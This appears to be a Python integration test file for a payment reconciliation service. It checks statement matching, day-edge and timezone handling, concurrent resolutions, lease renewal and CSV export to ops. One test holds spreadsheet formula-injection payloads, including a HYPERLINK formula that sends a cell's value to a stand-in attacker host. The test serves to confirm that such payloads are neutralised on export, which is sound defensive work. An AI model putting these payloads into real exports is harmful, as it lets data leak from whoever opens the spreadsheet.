"""Reconciliation where a hostile or merely unusual statement, a window's edge or a second process
could make it wrong: a line of another kind on a payment's reference, a day's edge, a currency in
lower case, a formula in a reference exported to a spreadsheet, two passes or two resolutions at
once, a channel slower than the lease. Each test runs on both backends."""
import csv
import datetime as dt
import json
import threading
import time

from click.testing import CliRunner
from sqlalchemy import func, select

from app.adapters.db import unit_of_work
from app.adapters.models import AuditLog, ReconciliationRun
from app.config import scoped
from app.entrypoints.cli import main
from channels.config import ChannelSpec
from channels.sandbox.adapter import SandboxChannel
from tests import builders
from tests.integration.test_reconcile_streaming import COST, DAY, HEADER, Statement, _ours, _reconcile, _staged

AUTH = {"Authorization": "Bearer ops-secret"}


def _found(result) -> list[tuple[str, str]]:
    return sorted((i["issue"], i["channel_reference"]) for i in json.loads(result.output)["issues"])


def test_a_refund_line_on_a_payments_reference_is_not_taken_for_the_payment(statement):
    """The statement's ``operation`` counts: a refund the channel lists under our payment's
    reference is a refund we have no record of, and our payment is then not on the statement."""
    merchant_id, _ = builders.merchant("Srv")
    _ours(merchant_id, "r_pay", 1000)
    statement.line("r_pay", 1000, operation="refund")
    result = _reconcile()
    assert result.exit_code == 3, result.output
    assert _found(result) == [("missing_at_channel", "r_pay"), ("missing_in_payrouter", "r_pay")]
    assert json.loads(result.output)["matched"] == 0


def test_a_payment_and_its_refund_on_one_reference_each_match_their_own_operation(statement):
    """A channel that lists a refund under its payment's reference (as some acquirers do): each line
    matches our operation of its kind; neither is a duplicate. A capture, a void and a top-up's
    payment line are a payment's (or a top-up's) kinds of line."""
    merchant_id, _ = builders.merchant("Srv")
    _ours(merchant_id, "r_shared", 1000)
    _ours(merchant_id, "r_shared", 400, kind="refund")
    statement.line("r_shared", 1000)
    statement.line("r_shared", 400, operation="refund", at="11:00:00")
    _ours(merchant_id, "r_captured", 700)
    statement.line("r_captured", 700, operation="capture")
    _ours(merchant_id, "r_voided", 900, status="canceled")
    statement.line("r_voided", 900, operation="void", status="canceled")
    _ours(merchant_id, "r_topup", 1500, kind="topup")
    statement.line("r_topup", 1500, operation="payment")
    _ours(merchant_id, "r_payout", 2500, kind="withdrawal")
    statement.line("r_payout", 2500, operation="payout")
    result = _reconcile()
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["matched"] == 6


def test_an_outcome_recorded_after_midnight_for_a_line_settled_before_is_not_missing(statement):
    """The daily run of the day our record fell on: the channel settled the operation a second
    before midnight (the line is on the previous day's statement), our callback came after it. The
    operation was made that previous day, so that day's statement is read for it."""
    merchant_id, _ = builders.merchant("Srv")
    before = DAY - dt.timedelta(days=1)
    _ours(merchant_id, "r_edge", 1000, at=dt.datetime.combine(before, dt.time(23, 59, 58)),
          settled=dt.datetime.combine(DAY, dt.time(0, 0, 1)))
    statement.line("r_edge", 1000, at="23:59:59", day=before)
    statement.days[DAY.isoformat()] = [HEADER]
    result = _reconcile()
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["issues"] == []
    # The day before, the line is in the window and matched (our record is not in that window).
    earlier = CliRunner().invoke(main, ["reconcile", "--channel", "srv", "--date", before.isoformat(), "--json"])
    assert earlier.exit_code == 0, earlier.output
    assert json.loads(earlier.output)["matched"] == 1


def test_a_currency_code_in_lower_case_is_the_same_currency(statement):
    merchant_id, _ = builders.merchant("Srv")
    _ours(merchant_id, "r_lower", 1000)
    statement.line("r_lower", 1000, currency="usd")
    result = _reconcile()
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["summary"]["theirs"] == {"USD": {"lines": 1, "amount": 1000,
                                                                      "fee": COST.fee(1000)}}


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1")


def test_a_formula_in_a_reference_is_exported_as_text(statement, configured, config):
    """A reference a channel wrote is exported to ops, who open the CSV in a spreadsheet: a cell
    that would start a formula gets a leading apostrophe (the CLI's file and the /ops one)."""
    for number, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        statement.blocks.append(f"{quoted},payment,{1000 + number},USD,succeeded,{COST.fee(1000 + number)},"
                                f"{DAY}T10:00:00Z\n".encode())
    result = _reconcile()
    assert result.exit_code == 3, result.output
    run_id = json.loads(result.output)["id"]
    exported = CliRunner().invoke(main, ["reconcile", "export", run_id])
    assert exported.exit_code == 0, exported.output
    client = configured(config.with_(ops_token="ops-secret")).test_client()
    answer = client.get(f"/ops/reconciliation/{run_id}/issues.csv", headers=AUTH)
    assert answer.status_code == 200
    assert answer.get_data(as_text=True) == exported.output
    rows = list(csv.DictReader(exported.output.splitlines()))
    assert sorted(row["channel_reference"] for row in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        assert not any(str(value).startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_two_resolutions_of_one_issue_at_once_one_wins_and_the_other_is_409(stack):
    from tests.integration.test_admin_data import open_issue

    issue = open_issue("sandbox", "status_mismatch")
    stack.serve(stack.config.with_(ops_token="ops-secret"))
    app = stack.client.application
    start, answers = threading.Barrier(2), []

    def resolve(note):
        with app.test_client() as client:
            start.wait()
            answer = client.post(f"/ops/reconciliation/issues/{issue}/resolve", json={"note": note},
                                 headers=AUTH)
            answers.append((answer.status_code, answer.get_json()))

    threads = [threading.Thread(target=resolve, args=(f"checked {n}",)) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert sorted(status for status, _ in answers) == [200, 409], answers
    refused = next(body for status, body in answers if status == 409)
    assert refused["error"]["code"] == "issue_already_resolved" and refused["error"]["request_id"]
    with unit_of_work() as session:
        assert session.scalar(select(func.count()).select_from(AuditLog)
                              .where(AuditLog.action == "reconciliation.resolve")) == 1


def test_two_near_real_time_passes_at_once_compare_the_window_once(statement):
    """`reconcile --recent` from a shell while a worker's pass runs (the CLI takes no lease): both
    start from the same window; the one that finishes second records nothing (its window is the
    other's) instead of a second run over the same lines."""
    from app.services import reconcile as recon

    merchant_id, _ = builders.merchant("Srv")
    now = dt.datetime.combine(DAY, dt.time(12))
    _ours(merchant_id, "r_1", 1000, at=now - dt.timedelta(minutes=2))
    statement.line("r_1", 1000, at="11:58:00")
    statement.delay = 1.0
    runs = []

    def one_pass():
        runs.append(recon.reconcile_recent("srv", now=now))

    threads = [threading.Thread(target=one_pass) for _ in range(2)]
    for thread in threads:
        thread.start()
        time.sleep(0.3)
    for thread in threads:
        thread.join(30)
    assert sorted(run is None for run in runs) == [False, True], runs
    with unit_of_work() as session:
        assert session.scalar(select(func.count()).select_from(ReconciliationRun)) == 1
    assert _staged() == 0


def test_the_lease_is_kept_while_a_slow_channel_is_compared(stack, monkeypatch):
    """A channel whose statement takes longer than the lease: the pass keeps renewing it, so no
    other worker starts a second pass over the same windows meanwhile."""
    from app.adapters.channels_runtime import channel as real_channel
    from app.adapters.redis_conn import get_redis
    from app.services import reconcile as recon

    served = Statement()
    served.delay = 4.0  # longer than the lease below, shorter than the channel's read timeout
    spec = ChannelSpec(id="acq_alpha", adapter="sandbox", methods=("card",), currencies=("USD",),
                       operations=("payment",), cost=COST, timeout_ms=5000, config={"base_url": served.url})
    slow = SandboxChannel(spec, "x" * 32)
    monkeypatch.setattr(recon, "channel", lambda cid: slow if cid == "acq_alpha" else real_channel(cid))
    monkeypatch.setattr(recon, "LEASE_SECONDS", 2)
    passes = stack.config.with_(reconcile_interval=1)  # the workers' process configuration
    first = []

    def other_worker():
        with scoped(passes):
            first.append(recon.run_continuous())

    try:
        worker = threading.Thread(target=other_worker)
        worker.start()
        time.sleep(3.2)  # the lease was taken for 2 s; the slow statement is still coming
        assert worker.is_alive()
        with scoped(passes):
            assert recon.run_continuous() == {}  # another worker finds the lease held
        worker.join(30)
        assert first == [{"sandbox": 0, "acq_alpha": 0, "acq_beta": 0}]
        assert get_redis().ttl(recon.LEASE_KEY) <= 1
    finally:
        served.server.shutdown()


def test_an_outcome_missing_from_a_late_statement_closes_when_a_later_run_finds_it(statement):
    """A channel whose statement lags more than the grace: the near-real-time pass reports our
    payment missing at the channel; the daily run then finds its line, and the issue closes (it
    was the statement's lag, not a discrepancy) instead of staying open for ever."""
    from app.services import issues
    from app.services import reconcile as recon

    merchant_id, _ = builders.merchant("Srv")
    now = dt.datetime.combine(DAY, dt.time(12))
    _ours(merchant_id, "r_late", 1000, at=now - dt.timedelta(minutes=2))
    first = recon.reconcile_recent("srv", now=now)
    assert [(i["issue"], i["channel_reference"]) for i in first.issues] == [("missing_at_channel", "r_late")]
    statement.line("r_late", 1000, at="11:58:00")  # the statement catches up
    result = _reconcile()
    assert result.exit_code == 0, result.output
    assert issues.listing("srv") == []
    closed = issues.listing("srv", status=issues.RESOLVED)
    assert [(i["issue"], i["resolved_by"]) for i in closed] == [("missing_at_channel",
                                                                 f"reconciliation:{json.loads(result.output)['id']}")]


def test_the_ops_list_of_runs_says_when_there_are_more(statement, configured, config):
    for _ in range(2):
        assert _reconcile().exit_code == 0
    client = configured(config.with_(ops_token="ops-secret")).test_client()
    page = client.get("/ops/reconciliation?limit=1", headers=AUTH).get_json()
    assert len(page["data"]) == 1 and page["has_more"] is True
    page = client.get("/ops/reconciliation?limit=2", headers=AUTH).get_json()
    assert len(page["data"]) == 2 and page["has_more"] is False


def test_every_line_of_a_days_statement_is_compared_whatever_time_it_bears(statement):
    """A channel that dates its day in its own time zone, or puts a line at midnight on the day it
    closes: the line is on that day's statement only, so that day's run compares it (it was
    counted by no run before). Our outcome recorded the next UTC day is found on it."""
    merchant_id, _ = builders.merchant("Srv")
    after = DAY + dt.timedelta(days=1)
    _ours(merchant_id, "r_tz", 1000, at=dt.datetime.combine(DAY, dt.time(23)),
          settled=dt.datetime.combine(after, dt.time(4, 30, 1)))
    statement.blocks.append(f"r_tz,payment,1000,USD,succeeded,{COST.fee(1000)},{DAY}T23:30:00-05:00\n".encode())
    statement.blocks.append(f"r_midnight,payment,2000,USD,succeeded,{COST.fee(2000)},{after}T00:00:00Z\n".encode())
    statement.days[after.isoformat()] = [HEADER]
    result = _reconcile()
    assert result.exit_code == 3, result.output
    report = json.loads(result.output)
    assert (report["statement_lines"], report["matched"]) == (2, 1)
    assert _found(result) == [("missing_in_payrouter", "r_midnight")]
    next_day = CliRunner().invoke(main, ["reconcile", "--channel", "srv", "--date", after.isoformat(), "--json"])
    assert next_day.exit_code == 0, next_day.output
    assert json.loads(next_day.output)["statement_lines"] == 0


def test_a_run_with_more_issues_than_a_statement_takes_parameters_is_still_shown(clean):
    """PostgreSQL takes at most 65,535 parameters in one statement (SQLite as it was built): the
    statuses of a run's issues (the CLI's report, `reconcile export`, GET /ops/reconciliation) are
    read in pieces, so a run that found 120,000 issues is not an exit 1 after it was recorded."""
    from app.services import issues

    known = [_open_issue() for _ in range(3)]
    asked = [f"ri_nope{n}" for n in range(70_000)] + known
    assert issues.statuses(asked) == {issue_id: issues.OPEN for issue_id in known}


def _open_issue() -> str:
    from tests.integration.test_admin_data import open_issue

    return open_issue("srv", "missing_in_payrouter")


def test_an_adapter_that_breaks_stops_neither_the_pass_nor_the_cli_for_the_others(stack, monkeypatch):
    """A channel's adapter (a third party's plugin) that raises something of its own while reading
    its statement: `reconcile --recent` names it and exits 1 after running every other channel."""
    from app.adapters.channels_runtime import channel as real_channel
    from app.services import reconcile as recon

    class Broken:
        id, cost = "acq_alpha", COST

        def statement(self, date, since=None):
            raise RuntimeError("the plugin's own bug")

    monkeypatch.setattr(recon, "channel", lambda cid: Broken() if cid == "acq_alpha" else real_channel(cid))
    result = CliRunner().invoke(main, ["reconcile", "--recent", "--json"])
    assert result.exit_code == 1, result.output
    assert "acq_alpha" in result.stderr and "the plugin's own bug" in result.stderr
    assert {run["channel"] for run in json.loads(result.stdout)} == {"sandbox", "acq_beta"}


def test_resolve_refuses_a_query_parameter(stack):
    from app.services import issues
    from tests.integration.test_admin_data import open_issue

    issue = open_issue("sandbox", "status_mismatch")
    stack.serve(stack.config.with_(ops_token="ops-secret"))
    answer = stack.client.post(f"/ops/reconciliation/issues/{issue}/resolve?settle=failed", json={"note": "x"},
                               headers=AUTH)
    assert answer.status_code == 400 and answer.get_json()["error"]["param"] == "settle"
    assert [i["id"] for i in issues.listing("sandbox")] == [issue]  # still open
